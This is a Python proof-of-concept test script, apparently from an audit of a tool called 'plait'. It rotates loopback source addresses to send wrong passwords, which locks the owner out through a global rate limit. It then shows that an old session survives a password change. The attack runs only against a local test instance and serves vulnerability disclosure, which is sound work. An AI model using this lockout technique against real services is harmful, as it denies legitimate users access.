# G5: over HTTPS beyond loopback, a client on the network that uses 7 source addresses (3 free wrong passwords
# each; an IPv6 /64 has 2^64 of them, here 127.0.0.2-8 against the agent's [::ffff:127.0.0.1] listener) trips the
# brake "for all sources together", after which the owner's RIGHT password is answered 429 "too many wrong
# passwords; wait N s" unchecked; one more wrong try whenever the wait ends keeps it at up to 300 s for about one
# request per 5 minutes. Then: a session opened with the old password survives `plait gui --set-password`.
# Usage: python3 g5_password_lockout.py [ROUNDS]
import json, socket, ssl, sys, time
import hg

rounds = int(sys.argv[1]) if len(sys.argv) > 1 else 6
h = hg.make_home("g5", 18053, "[::ffff:127.0.0.1]:18054")
hg.run("gui", "--set-password", home=h, input="right password 1\n")
agent = hg.start_agent(h)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE


def login(password, src):
    a = hg.api_addr(h)
    body = json.dumps({"password": password}).encode()
    s = socket.create_connection(("127.0.0.1", int(a.rsplit(":", 1)[1])), source_address=(src, 0), timeout=30)
    s = ctx.wrap_socket(s)
    s.sendall((f"POST /api/session HTTP/1.1\r\nHost: {a}\r\nOrigin: https://{a}\r\nContent-Type: application/json\r\n"
               f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body)
    out = b""
    while True:
        b = s.recv(65536)
        if not b: break
        out += b
    s.close()
    head, _, payload = out.partition(b"\r\n\r\n")
    lines = head.decode().split("\r\n")
    retry = [l for l in lines if l.lower().startswith("retry-after")]
    cookie = [l.split(":", 1)[1].split(";")[0].strip() for l in lines if l.lower().startswith("set-cookie")]
    return lines[0], retry, payload.decode().strip().replace("\n", " "), cookie


try:
    st = login("right password 1", "127.0.0.9")
    print("owner before (127.0.0.9):", st[0], st[2][:60])
    old_session = (st[3][0], json.loads(st[2])["page_key"])
    for i in range(7):
        for _ in range(3):
            st = login("guess", f"127.0.0.{2+i}")
    print("attacker, 21 wrong tries from 127.0.0.2-8, last:", st[0], st[1])
    st = login("right password 1", "127.0.0.9")
    print("owner with the right password (127.0.0.9):", st[0], st[1], st[2][:100])
    for r in range(rounds):
        # the attacker waits out the brake and spends one more wrong try
        while True:
            st = login("guess", "127.0.0.2" if r % 2 else "127.0.0.3")
            if not st[0].endswith("429 Too Many Requests"): break
            time.sleep(min(int(st[1][0].split(":")[1]), 70) if st[1] else 1)
        st2 = login("right password 1", "127.0.0.9")
        print(f"round {r}: owner:", st2[0], st2[1])
    # a session opened with the old password, after the password is changed
    hg.run("gui", "--set-password", home=h, input="a new password 2\n")
    a = hg.api_addr(h)
    s, hd, d = hg.req(a, "GET", "/api/show", None, {"Host": a, "Cookie": old_session[0], "Plait-Page-Key": old_session[1]}, tls=True)
    print("after `plait gui --set-password`, the session opened with the old password: GET /api/show ->", s)
finally:
    hg.stop_agent(agent)
